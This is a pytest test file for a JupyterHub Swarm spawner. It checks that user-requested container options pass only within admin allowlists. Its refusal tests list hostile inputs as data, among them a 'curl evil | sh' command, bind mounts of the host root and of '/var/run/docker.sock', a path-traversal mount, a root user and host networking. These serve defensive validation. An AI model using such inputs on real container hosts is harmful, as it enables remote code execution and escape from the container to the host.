"""cassinyspawner's use_user_options: the original fields, only within the admin's allowlists."""

import asyncio

import pytest
from tornado import web

from cassinyspawner import SwarmSpawner as LegacySpawner
from cassinyspawner.useroptions import Allowlists, check
from swarmspawner.objects import make_service_spec
from swarmspawner.options import UserOptionsError

NAMESPACE = {"username": "alice", "servername": "", "prefix": "jupyter", "username_md5": "x"}

ALLOW = Allowlists(
    images=["quay.io/jupyter/*-notebook:2024-*"],
    args=[["start-singleuser.sh"]],
    mounts=[
        {"type": "volume", "source": "data-{username}--*"},
        {"type": "volume"},
        {"type": "tmpfs", "target": "/tmp/*"},
        {"type": "bind", "source": "/srv/datasets/*", "read_only": True},
    ],
    max_cpu=2.0,
    max_mem=4 * 1024**3,
    networks=["extra-net"],
    constraints=["node.labels.gpu == yes"],
    name_pattern=r"[a-z]+",
)

# The example of the original package's documentation, with values this hub allows.
ORIGINAL = {
    "container_spec": {
        "args": ["start-singleuser.sh"],
        "Image": "quay.io/jupyter/base-notebook:2024-05-01",
        "mounts": [{"type": "volume", "source": "data-alice--1", "target": "/data"}],
    },
    "resource_spec": {
        "cpu_limit": int(1 * 1e9),
        "mem_limit": int(512 * 1e6),
        "cpu_reservation": int(1 * 1e9),
        "mem_reservation": int(512 * 1e6),
    },
    "placement": ["node.labels.gpu==yes"],
    "network": ["extra-net"],
    "name": "work",
}


def test_the_original_example_passes_within_allowlists():
    request = check(ORIGINAL, ALLOW, NAMESPACE)
    assert request.image == "quay.io/jupyter/base-notebook:2024-05-01"
    assert request.args == ["start-singleuser.sh"]
    assert request.mounts == [
        {"type": "volume", "source": "data-alice--1", "target": "/data", "read_only": False}]
    assert request.cpu_limit == 1.0 and request.cpu_guarantee == 1.0
    assert request.mem_limit == 512_000_000
    assert request.constraints == ["node.labels.gpu==yes"]
    assert request.networks == ["extra-net"]
    assert request.name == "work"


def test_bind_mounts_are_forced_read_only_where_the_admin_says():
    request = check({"container_spec": {"mounts": [
        {"Type": "bind", "Source": "/srv/datasets/climate", "Target": "/data"}]}},
        ALLOW, NAMESPACE)
    assert request.mounts[0]["read_only"] is True


@pytest.mark.parametrize(
    "options, field",
    [
        # A bind mount of the node's root, or out of the allowed tree.
        ({"container_spec": {"mounts": [{"type": "bind", "source": "/", "target": "/host"}]}},
         "container_spec.mounts[0].source"),
        ({"container_spec": {"mounts": [
            {"type": "bind", "source": "/srv/datasets/../../etc", "target": "/x"}]}},
         "container_spec.mounts[0].source"),
        ({"container_spec": {"mounts": [
            {"type": "bind", "source": "/var/run/docker.sock", "target": "/x"}]}},
         "container_spec.mounts[0]"),
        # Someone else's volume; driver options that mount anything.
        ({"container_spec": {"mounts": [{"type": "volume", "source": "data-bob-1",
                                         "target": "/x"}]}}, "container_spec.mounts[0]"),
        ({"container_spec": {"mounts": [{"type": "volume", "source": "data-alice--1",
                                         "target": "/x", "driver_opts": {"device": "/"}}]}},
         "container_spec.mounts[0].driver_opts"),
        ({"container_spec": {"mounts": [{"type": "volume", "source": "{username_md5}",
                                         "target": "/x"}]}}, "container_spec.mounts[0].source"),
        ({"container_spec": {"mounts": [{"type": "tmpfs", "target": "/"}]}},
         "container_spec.mounts[0].target"),
        ({"container_spec": {"mounts": [{"type": "tmpfs", "target": "/etc"}]}},
         "container_spec.mounts[0]"),
        ({"container_spec": {"mounts": "volume"}}, "container_spec.mounts"),
        # Images and commands not on the list; other container fields.
        ({"container_spec": {"Image": "alpine"}}, "container_spec.Image"),
        ({"container_spec": {"Image": "quay.io/jupyter/base-notebook:latest"}},
         "container_spec.Image"),
        ({"container_spec": {"Image": ["quay.io/jupyter/base-notebook:2024-01"]}},
         "container_spec.Image"),
        ({"container_spec": {"args": ["sh", "-c", "curl evil | sh"]}}, "container_spec.args"),
        ({"container_spec": {"user": "root"}}, "container_spec.user"),
        ({"container_spec": {"env": {"A": "1"}}}, "container_spec.env"),
        ({"container_spec": "alpine"}, "container_spec"),
        # Limits beyond the maximum, zero (unlimited) or of the wrong type.
        ({"resource_spec": {"cpu_limit": 10000 * 10**9}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"cpu_limit": 10000}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"cpu_limit": 0}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"cpu_limit": -1}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"cpu_limit": "2"}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"cpu_limit": True}}, "resource_spec.cpu_limit"),
        ({"resource_spec": {"mem_limit": "1T"}}, "resource_spec.mem_limit"),
        ({"resource_spec": {"mem_limit": 0}}, "resource_spec.mem_limit"),
        ({"resource_spec": {"mem_limit": "lots"}}, "resource_spec.mem_limit"),
        ({"resource_spec": {"mem_reservation": 10**15}}, "resource_spec.mem_reservation"),
        ({"resource_spec": {"cpu_limit": 10**9, "cpu_reservation": 2 * 10**9}},
         "resource_spec.cpu_reservation"),
        ({"resource_spec": {"generic_resources": {"gpu": 8}}}, "resource_spec.generic_resources"),
        # Placement, networks and names not allowed.
        ({"placement": ["node.role == manager"]}, "placement[0]"),
        ({"placement": "node.labels.gpu == yes"}, "placement"),
        ({"network": ["host"]}, "network[0]"),
        ({"networks": ["ingress"]}, "networks[0]"),
        ({"network": ["extra-net"], "networks": ["extra-net"]}, "'network'"),
        ({"name": "Admin"}, "'name'"),
        ({"name": "a" * 100}, "'name'"),
        ({"name": 1}, "'name'"),
    ],
)
def test_hostile_fields_are_refused_naming_the_field(options, field):
    with pytest.raises(UserOptionsError) as info:
        check(options, ALLOW, NAMESPACE)
    assert field in str(info.value)


@pytest.mark.parametrize(
    "options, field, setting",
    [
        ({"container_spec": {"Image": "x"}}, "container_spec.Image", "user_options_allowed_images"),
        ({"container_spec": {"args": ["x"]}}, "container_spec.args", "user_options_allowed_args"),
        ({"container_spec": {"mounts": [{"type": "volume", "target": "/x"}]}},
         "container_spec.mounts", "user_options_allowed_mounts"),
        ({"resource_spec": {"cpu_limit": 10**9}}, "resource_spec.cpu_limit",
         "user_options_max_cpu"),
        ({"resource_spec": {"mem_limit": 10**9}}, "resource_spec.mem_limit",
         "user_options_max_mem"),
        ({"placement": ["node.labels.a == b"]}, "placement", "user_options_allowed_constraints"),
        ({"network": ["n"]}, "network", "user_options_allowed_networks"),
        ({"name": "x"}, "name", "user_options_name_pattern"),
    ],
)
def test_a_field_without_allowlist_is_refused(options, field, setting):
    with pytest.raises(UserOptionsError) as info:
        check(options, Allowlists(), NAMESPACE)
    assert f"'{field}'" in str(info.value) and setting in str(info.value)


# --- through the spawner ----------------------------------------------------------


def legacy_spawner(spawner_factory, **config):
    return spawner_factory(cls=LegacySpawner, config={"SwarmSpawner": {
        "use_user_options": True,
        "image": "base:1",
        "networks": ["hub-net"],
        "placement_constraints": ["node.role == worker"],
        "mounts": [{"type": "volume", "source": "home-{username}", "target": "/home/jovyan"}],
        "cpu_limit": 0.5,
        "user_options_allowed_images": ALLOW.images,
        "user_options_allowed_args": ALLOW.args,
        "user_options_allowed_mounts": ALLOW.mounts,
        "user_options_max_cpu": 2.0,
        "user_options_max_mem": "4G",
        "user_options_allowed_networks": ["extra-net"],
        "user_options_allowed_constraints": ["node.labels.gpu == yes"],
        "user_options_name_pattern": "[a-z]+",
        **config,
    }})


def test_spawner_builds_the_service_from_allowed_user_options(spawner_factory):
    spawner = legacy_spawner(spawner_factory)
    asyncio.run(spawner._run_apply_user_options(ORIGINAL))
    spec = make_service_spec(spawner.service_settings())
    task = spec["task_template"]
    assert spec["name"] == "jupyter-alice--work"
    assert task["ContainerSpec"]["Image"] == "quay.io/jupyter/base-notebook:2024-05-01"
    assert task["ContainerSpec"]["Args"][0] == "start-singleuser.sh"
    assert task["Resources"]["Limits"]["NanoCPUs"] == 10**9
    # The admin's constraints, networks and mounts stay; the user's are added.
    assert task["Placement"]["Constraints"] == ["node.role == worker", "node.labels.gpu==yes"]
    assert [n["Target"] for n in task["Networks"]] == ["hub-net", "extra-net"]
    assert [m["Target"] for m in task["ContainerSpec"]["Mounts"]] == ["/home/jovyan", "/data"]

    # The next spawn without options is the admin's server again.
    asyncio.run(spawner._run_apply_user_options({}))
    spec = make_service_spec(spawner.service_settings())
    assert spec["name"] == "jupyter-alice--1"
    assert spec["task_template"]["ContainerSpec"]["Image"] == "base:1"
    assert spec["task_template"]["Placement"]["Constraints"] == ["node.role == worker"]
    assert spawner.cpu_limit == 0.5


def test_spawner_refuses_with_400_and_leaves_settings_alone(spawner_factory):
    spawner = legacy_spawner(spawner_factory)
    for options in (
        {"container_spec": {"mounts": [{"type": "bind", "source": "/", "target": "/host"}]}},
        {"container_spec": {"mounts": [{"type": "volume", "target": "/home/jovyan"}]}},
        {"resource_spec": {"cpu_limit": 10000 * 10**9}},
        {"container_spec": {"Image": "alpine"}},
        {"unknown": 1},
        ["container_spec"],
    ):
        with pytest.raises(web.HTTPError) as info:
            asyncio.run(spawner._run_apply_user_options(options))
        assert info.value.status_code == 400, options
        assert spawner.image == "base:1"
        assert len(spawner.mounts) == 1


def test_without_use_user_options_the_original_fields_are_unknown(spawner_factory):
    spawner = legacy_spawner(spawner_factory, use_user_options=False)
    with pytest.raises(web.HTTPError) as info:
        asyncio.run(spawner._run_apply_user_options(ORIGINAL))
    assert "'container_spec'" in info.value.jupyterhub_message


def test_profiles_and_original_fields_together(spawner_factory):
    spawner = legacy_spawner(spawner_factory, profile_list=[
        {"display_name": "Big", "spawner_override": {"mem_limit": "2G"}}])
    asyncio.run(spawner._run_apply_user_options(
        {"profile": "big", "resource_spec": {"cpu_limit": 2 * 10**9}}))
    assert spawner.mem_limit == 2 * 1024**3
    assert spawner.cpu_limit == 2.0
